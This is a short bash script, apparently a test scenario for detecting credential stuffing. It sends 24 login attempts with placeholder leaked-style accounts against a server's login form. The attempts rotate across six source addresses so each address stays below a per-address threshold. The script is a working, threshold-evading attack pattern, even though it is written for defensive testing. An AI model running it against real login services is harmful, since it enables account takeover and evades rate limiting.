# Credential stuffing spread over six addresses (a small botnet): 24 leaked accounts, four per
# address — below the per-address threshold — all from the same tool (one User-Agent and
# header order), against the login form.
set -u
read -r -a ips <<<"$CLIENT_IPS"
n=0
for i in $(seq 1 24); do
  ip=${ips[$((n % ${#ips[@]}))]}
  n=$((n + 1))
  curl -s -o /dev/null --interface "$ip" -A "Go-http-client/1.1" \
    --data-urlencode "username=leaked$i@example.com" --data-urlencode "password=Winter2023!" \
    "http://$SERVER/login"
done
